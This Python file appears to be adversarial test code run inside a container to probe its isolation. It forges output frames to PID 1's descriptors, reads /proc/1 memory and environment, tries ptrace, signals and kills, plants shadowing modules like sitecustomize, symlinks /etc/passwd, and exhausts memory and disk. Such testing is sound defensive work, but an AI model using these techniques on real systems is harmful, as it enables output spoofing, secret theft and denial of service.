"""What a call would do to the first process of its container, to speak in its name. Runs inside."""

import ctypes
import ctypes.util
import os
import resource
import signal
import struct
from collections.abc import Callable
from typing import Any

FORGED = struct.pack("<cI", b"X", 3) + b"{}\n" + struct.pack("<cI", b"D", 2) + b'""'


def _outcome(action: Callable[..., Any], *arguments: Any) -> str:
    try:
        return f"done: {action(*arguments)!r}"
    except (OSError, ValueError) as error:
        return type(error).__name__


def _open(path: str, mode: str = "r") -> str:
    with open(path, mode) as file:
        return file.read() if mode == "r" else str(file.write("1000")) if mode == "w" else "opened"


def _write(path: str) -> int:
    fd = os.open(path, os.O_WRONLY)
    try:
        return os.write(fd, FORGED)
    finally:
        os.close(fd)


def forge_frames() -> dict[str, str]:
    """Write a frame wherever the outputs of the first process might be."""
    found = {}
    for path in ("/proc/1/fd", "/proc/1/task/1/fd"):
        found[path] = _outcome(os.listdir, path)
        for number in (*range(16), *range(100, 140)):
            found[f"{path}/{number}"] = _outcome(_write, f"{path}/{number}")
    for number in range(3, 256):
        if number != 3:
            found[f"descriptor {number}"] = _outcome(os.write, number, FORGED)
    found["/dev/console"] = _outcome(_write, "/dev/console")
    found["/dev/tty"] = _outcome(_write, "/dev/tty")
    return found


def speak_in_frames() -> str:
    """Write frames to our own outputs: they are what a call said, and nothing more."""
    os.write(1, FORGED * 3)
    os.write(2, FORGED * 3)
    with open("/dev/stdout", "wb", buffering=0) as stream:
        stream.write(FORGED)
    return "spoken"


def touch_the_first_process() -> dict[str, str]:
    """Read, write, trace, limit, slow down and kill the first process."""
    libc = ctypes.CDLL(None, use_errno=True)

    def kernel(*arguments: int) -> int:
        done = libc.syscall(*(ctypes.c_long(a) for a in arguments))
        if done < 0:
            raise OSError(ctypes.get_errno(), "")
        return int(done)

    def prlimit(kind: int) -> int:
        values = (ctypes.c_uint64 * 2)(0, 0)
        return kernel(302, 1, kind, ctypes.addressof(values), 0)

    def peek() -> int:
        buffer = ctypes.create_string_buffer(8)
        vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
        done = libc.process_vm_readv(1, vector, 1, vector, 1, 0)
        if done < 0:
            raise OSError(ctypes.get_errno(), "")
        return int(done)

    tried = {
        "mem": _outcome(_open, "/proc/1/mem", "r+b"),
        "maps": _outcome(_open, "/proc/1/maps"),
        "environ": _outcome(_open, "/proc/1/environ"),
        "root": _outcome(os.listdir, "/proc/1/root"),
        "cwd": _outcome(os.listdir, "/proc/1/cwd"),
        "exe": _outcome(os.readlink, "/proc/1/exe"),
        "oom_score_adj": _outcome(_open, "/proc/1/oom_score_adj", "w"),
        "trace": _outcome(kernel, 101, 16, 1, 0, 0),
        "read": _outcome(peek),
        "descriptor": _outcome(lambda: kernel(438, os.pidfd_open(1), 121, 0)),
        "processor limit": _outcome(prlimit, resource.RLIMIT_CPU),
        "files limit": _outcome(prlimit, resource.RLIMIT_NOFILE),
        "scheduler": _outcome(os.sched_setscheduler, 1, os.SCHED_IDLE, os.sched_param(0)),
        "priority": _outcome(os.setpriority, os.PRIO_PROCESS, 1, 19),
        "priority of the user": _outcome(os.setpriority, os.PRIO_USER, 0, 19),
    }
    for number in signal.valid_signals():
        _outcome(os.kill, 1, number)
        _outcome(kernel, 234, 1, 1, int(number))
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
        for _ in range(50):
            _outcome(os.kill, 1, number)
    tried["still there"] = _outcome(os.kill, 1, 0)
    return tried


def replace_what_is_imported() -> str:
    """Put modules where the first process may look for them, after the call."""
    body = f"import os\nfor fd in range(256):\n    try: os.write(fd, {FORGED!r})\n    except OSError: pass\n"
    for place in ("/work", "/work/out", "/tmp", "/dev/shm"):
        for name in (
            "traceback",
            "encodings",
            "unicodedata",
            "novum",
            "linecache",
            "codecs",
            "sitecustomize",
        ):
            with open(f"{place}/{name}.py", "w") as file:
                file.write(body)
    with open("/work/out/\x1b[31m\udce4name", "w") as file:
        file.write("x")
    os.symlink("/etc/passwd", "/work/out/link")
    return "replaced"


def take_the_memory_of_the_first_process(megabytes: int) -> None:
    """Use more than allowed, in many small processes that the kernel likes no less than the first one."""
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("0")
    held = []
    while True:
        if os.fork() == 0:
            held.append(bytearray(os.urandom(1 << 20)) * 4)
            for _ in range(megabytes // 4):
                held.append(bytearray(os.urandom(1 << 20)) * 4)
            while True:
                signal.pause()


def write_everywhere(megabytes: int) -> int:
    """Write that much into each place for files, each within what one of them may hold."""
    import time

    for place in ("/work", "/tmp", "/dev/shm"):
        with open(f"{place}/part", "wb") as file:
            for _ in range(megabytes):
                file.write(b"x" * (1 << 20))
    time.sleep(20)
    return megabytes
